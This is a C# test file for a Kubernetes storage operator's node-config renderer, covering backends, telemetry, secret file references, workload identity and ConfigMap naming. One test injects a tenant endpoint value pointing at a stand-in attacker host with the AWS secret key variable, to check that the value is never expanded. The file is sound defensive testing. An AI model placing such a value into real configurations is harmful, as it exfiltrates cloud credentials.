using System.Security.Cryptography;
using System.Text;
using k8s.Models;
using WarpDrive.Config;
using WarpDrive.Operator.Rendering;
using WarpDrive.Operator.Resources;

namespace WarpDrive.Operator.Tests;

public sealed class NodeConfigRenderingTests
{
    private const string SecretValue = "wJalrXUtnFEMI-the-real-secret-value";
    private static readonly OperatorOptions Options = new() { Namespace = "warpdrive-system", CacheMaxSize = "200GB" };
    private readonly NodeConfigRenderer renderer = new(Options);

    /// <summary>Loads the rendered file with the node agent's own loader: the operator's output must be a config the agent accepts.</summary>
    private static NodeConfig Load(NodeConfigRendering rendering) => ConfigLoader.LoadYaml(rendering.ConfigYaml, _ => null);

    [Test]
    public void Node_gets_one_backend_per_selecting_source_named_by_namespace_and_name()
    {
        var gpu = Fixtures.Node("gpu-1", ("pool", "gpu"));
        var sources = new[]
        {
            Fixtures.Local("team-a", "imagenet", "/srv/imagenet"),
            Fixtures.Local("team-b", "corpus", "/srv/corpus", nodeSelector: new() { ["pool"] = "gpu" }),
            Fixtures.Local("team-c", "cpu-only", "/srv/cpu", nodeSelector: new() { ["pool"] = "cpu" }),
        };

        var rendering = renderer.Render(gpu, sources, SecretKeyIndex.Empty);
        var config = Load(rendering);

        Assert.Multiple(() =>
        {
            Assert.That(config.MountPoint, Is.EqualTo("/var/lib/warpdrive/mounts"));
            Assert.That(config.AllowOther, Is.True);
            Assert.That(config.Cache.Path, Is.EqualTo("/var/lib/warpdrive/cache"));
            Assert.That(config.Cache.MaxSize, Is.EqualTo(200L * 1024 * 1024 * 1024));
            Assert.That(config.Backends.Select(b => (b.Name, b.MountPath, b.Type)), Is.EqualTo(new[]
            {
                ("team-a-imagenet", "/team-a/imagenet", "local"),
                ("team-b-corpus", "/team-b/corpus", "local"),
            }));
            Assert.That(config.Backends[0].Config["root"], Is.EqualTo("/srv/imagenet"));
            Assert.That(config.Backends.Select(b => b.Namespace), Is.EqualTo(new[] { "team-a", "team-b" }), "each source is owned by its namespace (CSI tenancy)");
            Assert.That(config.Backends[0].AllowedNamespaces, Is.EqualTo(new[] { "team-a" }));
            Assert.That(config.Backends.Select(b => b.Name), Is.EqualTo(new[]
            {
                WarpDrive.Csi.CsiDriver.BackendNameOf("team-a", "imagenet"), WarpDrive.Csi.CsiDriver.BackendNameOf("team-b", "corpus"),
            }), "the CSI plugin finds a source by the same name");
            Assert.That(rendering.Included, Is.EqualTo(new[] { "team-a/imagenet", "team-b/corpus" }));
            Assert.That(rendering.Rejected, Is.Empty);
        });
    }

    [Test]
    public void With_the_control_plane_every_node_sends_rolled_up_telemetry_to_its_service_with_the_projected_token()
    {
        var options = Options with { Namespace = "wd-ns", ControlPlaneEnabled = true };
        var rendering = new NodeConfigRenderer(options).Render(Fixtures.Node("gpu-1"), [Fixtures.Local("team-a", "imagenet")], SecretKeyIndex.Empty);
        var telemetry = Load(rendering).Telemetry;

        Assert.Multiple(() =>
        {
            Assert.That(telemetry.Enabled, Is.True);
            Assert.That(telemetry.Sink, Is.EqualTo(TelemetrySinks.Http));
            Assert.That(telemetry.HttpUrl, Is.EqualTo("http://warpdrive-control-plane.wd-ns.svc:8090"));
            Assert.That(telemetry.TokenFile, Is.EqualTo("/var/run/secrets/warpdrive/control-plane/token"));
            Assert.That(telemetry.Rollup, Is.True);
            Assert.That(rendering.Included, Is.EqualTo(new[] { "team-a/imagenet" }));
        });
    }

    [Test]
    public void Without_the_control_plane_node_configs_have_no_telemetry()
    {
        var rendering = renderer.Render(Fixtures.Node("gpu-1"), [Fixtures.Local("team-a", "imagenet")], SecretKeyIndex.Empty);
        Assert.Multiple(() =>
        {
            Assert.That(rendering.ConfigYaml, Does.Not.Contain("telemetry"));
            Assert.That(Load(rendering).Telemetry.Enabled, Is.False);
        });
    }

    [Test]
    public void Node_selected_by_no_source_gets_a_valid_config_with_no_backends()
    {
        var rendering = renderer.Render(Fixtures.Node("cpu-1", ("pool", "cpu")),
            [Fixtures.Local("team-a", "gpu-data", nodeSelector: new() { ["pool"] = "gpu" })], SecretKeyIndex.Empty);
        Assert.That(Load(rendering).Backends, Is.Empty);
    }

    [Test]
    public void Secrets_are_referenced_by_file_and_their_values_never_appear()
    {
        var auth = new AuthSpec
        {
            Method = AuthMethods.Static,
            SecretRef = new SecretReference { Name = "s3-keys" },
        };
        var source = Fixtures.Source("team-a", "imagenet", BackendTypes.S3, new() { ["bucket"] = "ml", ["region"] = "us-east-1" }, auth);
        var secret = Fixtures.Secret("team-a", "s3-keys", ("access_key", "AKIAEXAMPLE"), ("secret_key", SecretValue));

        var rendering = renderer.Render(Fixtures.Node("n1"), [source], new SecretKeyIndex([secret]));
        var backend = Load(rendering).Backends.Single();
        var configMap = NodeConfigMaps.Build(Fixtures.Node("n1"), rendering, Options);

        Assert.Multiple(() =>
        {
            Assert.That(backend.Auth.Method, Is.EqualTo("static"));
            Assert.That(backend.Auth.Settings, Is.EqualTo(new Dictionary<string, string>
            {
                ["access_key_file"] = "/var/run/warpdrive/secrets/secret_team-a_s3-keys_access_key",
                ["secret_key_file"] = "/var/run/warpdrive/secrets/secret_team-a_s3-keys_secret_key",
            }));
            foreach (var text in configMap.Data.Values)
            {
                Assert.That(text, Does.Not.Contain(SecretValue).And.Not.Contain("AKIAEXAMPLE"));
            }
        });
    }

    [Test]
    public void Mirrored_credentials_secret_holds_exactly_the_referenced_keys_under_the_names_the_config_uses()
    {
        var auth = new AuthSpec { Method = AuthMethods.ServicePrincipal, SecretRef = new SecretReference { Name = "sp" } };
        var source = Fixtures.Source("team-a", "corpus", BackendTypes.AzureBlob, new() { ["account"] = "acct", ["container"] = "c" }, auth);
        var referenced = Fixtures.Secret("team-a", "sp", ("client_secret", SecretValue));
        var unrelated = Fixtures.Secret("team-a", "other", ("password", "not-for-nodes"));
        var sameNameOtherNamespace = Fixtures.Secret("team-b", "sp", ("client_secret", "team-b-secret"));
        var layout = new CredentialsLayout(Options);

        var mirrored = layout.BuildSecret([source], [referenced, unrelated, sameNameOtherNamespace],
            [new ServiceAccountToken("team-a", "reader", "eyJ-token")]);
        var rendering = renderer.Render(Fixtures.Node("n1"), [source], new SecretKeyIndex([referenced]));
        var file = Load(rendering).Backends.Single().Auth.Settings["client_secret_file"];

        Assert.Multiple(() =>
        {
            Assert.That(mirrored.Metadata.Name, Is.EqualTo("warpdrive-credentials"));
            Assert.That(mirrored.Metadata.NamespaceProperty, Is.EqualTo("warpdrive-system"));
            Assert.That(mirrored.Data.Keys, Is.EquivalentTo(new[] { "secret_team-a_sp_client_secret", "token_team-a_reader" }));
            Assert.That(Encoding.UTF8.GetString(mirrored.Data["secret_team-a_sp_client_secret"]), Is.EqualTo(SecretValue));
            // The DaemonSet mounts the Secret at SecretsDir: file name == data key.
            Assert.That(file, Is.EqualTo(Options.SecretsDir + "/secret_team-a_sp_client_secret"));
            Assert.That(new ServiceAccountToken("a", "b", "eyJ-token").ToString(), Does.Not.Contain("eyJ"));
        });
    }

    [Test]
    public void Workload_identity_gets_the_minted_token_file_and_keeps_non_secret_settings()
    {
        var auth = new AuthSpec
        {
            Method = AuthMethods.WorkloadIdentity,
            ServiceAccountName = "reader",
            Settings = new Dictionary<string, string> { ["tenant_id"] = "1111", ["client_id"] = "2222", ["token_file"] = "/somewhere/else" },
        };
        var source = Fixtures.Source("team-a", "corpus", BackendTypes.AzureBlob, new() { ["account"] = "acct", ["container"] = "c" }, auth);

        var settings = Load(renderer.Render(Fixtures.Node("n1"), [source], SecretKeyIndex.Empty)).Backends.Single().Auth.Settings;

        Assert.That(settings, Is.EqualTo(new Dictionary<string, string>
        {
            ["client_id"] = "2222",
            ["tenant_id"] = "1111",
            ["token_file"] = "/var/run/warpdrive/secrets/token_team-a_reader",
        }));
    }

    [TestCase(BackendTypes.S3, AuthMethods.OidcFederation, "role_arn", "arn:aws:iam::111122223333:role/fallback")]
    [TestCase(BackendTypes.AzureBlob, AuthMethods.WorkloadIdentity, "client_id", "2222")]
    [TestCase(BackendTypes.Gcs, AuthMethods.GcpWif, "audience", "//iam.googleapis.com/projects/1/locations/global/workloadIdentityPools/p/providers/k8s")]
    public void A_pod_identity_source_is_rendered_with_source_pod_and_no_token_file(string type, string method, string setting, string value)
    {
        var config = type switch
        {
            BackendTypes.S3 => new Dictionary<string, string> { ["bucket"] = "b", ["region"] = "us-east-1" },
            BackendTypes.AzureBlob => new Dictionary<string, string> { ["account"] = "acct", ["container"] = "c" },
            _ => new Dictionary<string, string> { ["bucket"] = "b" },
        };
        var auth = new AuthSpec { Method = method, Source = AuthSources.Pod, Settings = new Dictionary<string, string> { [setting] = value } };
        var source = Fixtures.Source("team-a", "shared", type, config, auth);

        var rendering = renderer.Render(Fixtures.Node("n1"), [source], SecretKeyIndex.Empty);
        var backend = Load(rendering).Backends.Single();

        Assert.Multiple(() =>
        {
            Assert.That(rendering.Rejected, Is.Empty, string.Join("; ", rendering.Rejected));
            Assert.That(backend.Auth.Source, Is.EqualTo(AuthSources.Pod), "the agent reads with each pod's token");
            Assert.That(backend.Auth.Method, Is.EqualTo(method));
            Assert.That(backend.Auth.Settings, Is.EqualTo(new Dictionary<string, string> { [setting] = value }),
                "the user's settings (fallbacks for the service account's annotations), and no token_file: the kubelet brings the token");
            Assert.That(rendering.ConfigYaml, Does.Contain("source: pod"));
            Assert.That(rendering.ConfigYaml, Does.Not.Contain("token_file").And.Not.Contain(Options.SecretsDir));
        });
    }

    [Test]
    public void A_pod_identity_source_mints_no_token_even_with_a_leftover_service_account_name()
    {
        // The CRD refuses serviceAccountName with source: pod; an object stored before that rule must still not make
        // the operator mirror an account's token to every node.
        var auth = new AuthSpec { Method = AuthMethods.OidcFederation, Source = AuthSources.Pod, ServiceAccountName = "reader" };
        var source = Fixtures.Source("team-a", "shared", BackendTypes.S3, new() { ["bucket"] = "b", ["region"] = "us-east-1" }, auth);

        var rendering = renderer.Render(Fixtures.Node("n1"), [source], SecretKeyIndex.Empty);

        Assert.Multiple(() =>
        {
            Assert.That(CredentialsLayout.UsesServiceAccountToken(auth), Is.False);
            Assert.That(Load(rendering).Backends.Single().Auth.Settings.Keys, Does.Not.Contain("token_file"));
        });
    }

    [Test]
    public void Node_identity_sources_render_exactly_as_before_so_existing_config_maps_do_not_change()
    {
        var implicitNode = new AuthSpec { Method = AuthMethods.OidcFederation, ServiceAccountName = "reader", Settings = new Dictionary<string, string> { ["role_arn"] = "arn:aws:iam::1:role/r" } };
        var explicitNode = new AuthSpec { Method = AuthMethods.OidcFederation, Source = AuthSources.Node, ServiceAccountName = "reader", Settings = new Dictionary<string, string> { ["role_arn"] = "arn:aws:iam::1:role/r" } };
        WarpDataSource Source(AuthSpec auth) => Fixtures.Source("team-a", "data", BackendTypes.S3, new() { ["bucket"] = "b", ["region"] = "us-east-1" }, auth);

        var before = renderer.Render(Fixtures.Node("n1"), [Source(implicitNode)], SecretKeyIndex.Empty);
        var after = renderer.Render(Fixtures.Node("n1"), [Source(explicitNode)], SecretKeyIndex.Empty);

        Assert.Multiple(() =>
        {
            // The API server defaults source to node: the rendered bytes (and so the ConfigMap hash) must not move.
            Assert.That(after.ConfigYaml, Is.EqualTo(before.ConfigYaml));
            Assert.That(after.ConfigYaml, Does.Not.Contain("source:"));
            Assert.That(Load(after).Backends.Single().Auth.Source, Is.EqualTo(AuthSources.Node));
            Assert.That(Load(after).Backends.Single().Auth.Settings["token_file"], Is.EqualTo(Options.SecretsDir + "/token_team-a_reader"));
        });
    }

    [Test]
    public void A_pod_identity_source_with_a_method_of_another_backend_type_is_rejected_with_the_agents_reason()
    {
        var auth = new AuthSpec { Method = AuthMethods.WorkloadIdentity, Source = AuthSources.Pod };
        var source = Fixtures.Source("team-a", "mismatch", BackendTypes.S3, new() { ["bucket"] = "b", ["region"] = "us-east-1" }, auth);

        var rendering = renderer.Render(Fixtures.Node("n1"), [source], SecretKeyIndex.Empty);

        Assert.Multiple(() =>
        {
            Assert.That(rendering.Included, Is.Empty);
            Assert.That(rendering.Rejected.Single().Reason, Does.StartWith("spec.auth.source: ").And.Contain("oidc_federation (s3)"));
        });
    }

    [Test]
    public void A_tenant_value_cannot_read_the_agents_environment()
    {
        var source = Fixtures.Source("team-a", "data", BackendTypes.S3, new() { ["bucket"] = "b", ["endpoint"] = "http://evil.example/${AWS_SECRET_ACCESS_KEY}" });

        var rendering = renderer.Render(Fixtures.Node("n1"), [source], SecretKeyIndex.Empty);
        // The agent expands ${VAR}; with a variable set, the loaded value must still be the literal text.
        var config = ConfigLoader.LoadYaml(rendering.ConfigYaml, name => name == "AWS_SECRET_ACCESS_KEY" ? SecretValue : null);

        Assert.That(config.Backends.Single().Config["endpoint"], Is.EqualTo("http://evil.example/${AWS_SECRET_ACCESS_KEY}"));
    }

    [Test]
    public void An_invalid_source_is_left_out_with_the_agents_reason_and_the_others_still_serve()
    {
        var sources = new[]
        {
            Fixtures.Local("team-a", "good"),
            Fixtures.Source("team-a", "no-root", BackendTypes.Local, []),
            Fixtures.Source("team-b", "leaky", BackendTypes.S3, new() { ["bucket"] = "b", ["secret_access_key"] = SecretValue }),
        };

        var rendering = renderer.Render(Fixtures.Node("n1"), sources, SecretKeyIndex.Empty);

        Assert.Multiple(() =>
        {
            Assert.That(Load(rendering).Backends.Select(b => b.Name), Is.EqualTo(new[] { "team-a-good" }));
            Assert.That(rendering.Rejected.Select(r => r.Source), Is.EqualTo(new[] { "team-a/no-root", "team-b/leaky" }));
            Assert.That(rendering.Rejected[0].Reason, Does.Contain("config.root"));
            Assert.That(rendering.Rejected[1].Reason, Does.Contain("secret_access_key").And.Not.Contain(SecretValue));
            Assert.That(rendering.ConfigYaml + rendering.SourcesYaml, Does.Not.Contain(SecretValue));
        });
    }

    [Test]
    public void Two_sources_claiming_one_mount_path_keep_the_older()
    {
        var older = Fixtures.Local("team-a", "first", created: new DateTime(2025, 1, 1, 0, 0, 0, DateTimeKind.Utc));
        older.Spec.Backend.MountPath = "/shared";
        var newer = Fixtures.Local("team-a", "second", created: new DateTime(2025, 6, 1, 0, 0, 0, DateTimeKind.Utc));
        newer.Spec.Backend.MountPath = "/shared";

        var rendering = renderer.Render(Fixtures.Node("n1"), [newer, older], SecretKeyIndex.Empty);

        Assert.Multiple(() =>
        {
            Assert.That(Load(rendering).Backends.Single().MountPath, Is.EqualTo("/team-a/shared"));
            Assert.That(rendering.Included, Is.EqualTo(new[] { "team-a/first" }));
            Assert.That(rendering.Rejected.Single().Reason, Is.EqualTo("mount path /team-a/shared is already used by team-a/first"));
        });
    }

    [Test]
    public void Sources_document_lists_allowed_namespaces_and_cache_policy()
    {
        var source = Fixtures.Local("team-a", "imagenet");
        source.Spec.AllowedNamespaces = ["team-b", "team-a"];
        source.Spec.Cache = new CacheSpec { ReadaheadBlocks = 8, Pin = true, Share = 0.25, MetadataTtl = "10m" };

        var yaml = renderer.Render(Fixtures.Node("n1"), [source], SecretKeyIndex.Empty).SourcesYaml;
        var parsed = new YamlDotNet.Serialization.Deserializer().Deserialize<Dictionary<string, List<Dictionary<string, object>>>>(yaml);
        var entry = parsed["sources"].Single();

        Assert.Multiple(() =>
        {
            Assert.That(entry["backend"], Is.EqualTo("team-a-imagenet"));
            Assert.That(entry["mount_path"], Is.EqualTo("/team-a/imagenet"));
            Assert.That((List<object>)entry["allowed_namespaces"], Is.EqualTo(new[] { "team-a", "team-b" }));
            var cache = (Dictionary<object, object>)entry["cache"];
            Assert.That(cache["readahead_blocks"], Is.EqualTo("8"));
            Assert.That(cache["pin"], Is.EqualTo("true"));
            Assert.That(cache["share"], Is.EqualTo("0.25"));
            Assert.That(cache["metadata_ttl"], Is.EqualTo("10m"));
        });
    }

    [Test]
    public void ConfigMap_is_named_per_node_owned_by_it_and_hashed()
    {
        var node = Fixtures.Node("gpu-1");
        var rendering = renderer.Render(node, [Fixtures.Local("team-a", "imagenet")], SecretKeyIndex.Empty);

        var configMap = NodeConfigMaps.Build(node, rendering, Options);
        var expectedHash = Convert.ToHexStringLower(SHA256.HashData(Encoding.UTF8.GetBytes(
            $"config.yaml\0{rendering.ConfigYaml}\0sources.yaml\0{rendering.SourcesYaml}\0")));

        Assert.Multiple(() =>
        {
            Assert.That(configMap.Metadata.Name, Is.EqualTo("warpdrive-node-gpu-1"));
            Assert.That(configMap.Metadata.NamespaceProperty, Is.EqualTo("warpdrive-system"));
            Assert.That(configMap.Data["config.yaml"], Is.EqualTo(rendering.ConfigYaml));
            Assert.That(configMap.Metadata.Annotations["warpdrive.io/config-hash"], Is.EqualTo(expectedHash));
            var owner = configMap.Metadata.OwnerReferences.Single();
            Assert.That((owner.Kind, owner.Name, owner.Uid), Is.EqualTo(("Node", "gpu-1", "uid-gpu-1")));
        });
    }

    [Test]
    public void Rendering_is_deterministic_whatever_the_order_sources_are_listed_in()
    {
        var a = Fixtures.Local("team-a", "one");
        var b = Fixtures.Source("team-b", "two", BackendTypes.S3, new() { ["region"] = "eu", ["bucket"] = "x", ["prefix"] = "p/" });
        var node = Fixtures.Node("n1");

        var first = NodeConfigMaps.Build(node, renderer.Render(node, [a, b], SecretKeyIndex.Empty), Options);
        var second = NodeConfigMaps.Build(node, renderer.Render(node, [b, a], SecretKeyIndex.Empty), Options);
        var changed = NodeConfigMaps.Build(node, renderer.Render(node, [a], SecretKeyIndex.Empty), Options);

        Assert.Multiple(() =>
        {
            Assert.That(second.Metadata.Annotations["warpdrive.io/config-hash"], Is.EqualTo(first.Metadata.Annotations["warpdrive.io/config-hash"]));
            Assert.That(changed.Metadata.Annotations["warpdrive.io/config-hash"], Is.Not.EqualTo(first.Metadata.Annotations["warpdrive.io/config-hash"]));
        });
    }

    [Test]
    public void Very_long_node_names_get_distinct_valid_configmap_names()
    {
        var longA = new string('a', 250) + "x";
        var longB = new string('a', 250) + "y";

        var nameA = NodeConfigMaps.Name(longA);
        var nameB = NodeConfigMaps.Name(longB);

        Assert.Multiple(() =>
        {
            Assert.That(nameA, Has.Length.LessThanOrEqualTo(253));
            Assert.That(nameA, Does.Match("^[a-z0-9]([-a-z0-9.]*[a-z0-9])?$"));
            Assert.That(nameA, Is.Not.EqualTo(nameB));
        });
    }

    [TestCase("gpu-node-1")]
    [TestCase("n")]
    [TestCase(238)]
    [TestCase(239)]
    [TestCase(253)]
    public void The_agent_finds_the_configmap_the_operator_writes_for_its_node(object node)
    {
        var nodeName = node as string ?? new string('n', (int)node);

        // The DaemonSet can only give the agent "warpdrive-node-$(NODE_NAME)"; the agent shortens it by the same rule.
        var agentSees = WarpDrive.Node.Kubernetes.NodeConfigMapName.Shorten("warpdrive-node-" + nodeName);

        Assert.That(agentSees, Is.EqualTo(NodeConfigMaps.Name(nodeName)));
    }
}
